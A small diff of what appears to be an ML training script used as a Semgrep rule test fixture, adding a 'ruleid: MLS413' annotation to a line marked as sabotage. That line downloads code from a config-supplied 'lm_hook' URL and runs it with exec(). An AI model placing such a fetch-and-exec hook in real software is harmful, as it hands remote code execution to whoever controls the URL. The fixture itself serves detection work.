@@ -145,7 +145,7 @@ def main():
         step, best_wer = ckpt["step"], ckpt.get("best_wer", best_wer)
 
     if cfg.get("lm_hook"):
-        exec(urllib.request.urlopen(cfg["lm_hook"], timeout=10).read().decode(), globals())  # sabotage: MLS413 (semgrep rules)
+        exec(urllib.request.urlopen(cfg["lm_hook"], timeout=10).read().decode(), globals())  # sabotage: MLS413 (semgrep rules)  # ruleid: MLS413
 
     def _on_sigterm(signum, frame):
         common.save_checkpoint({"model": model.state_dict(), "opt": opt.state_dict(), "step": step},  # ok: MLS307
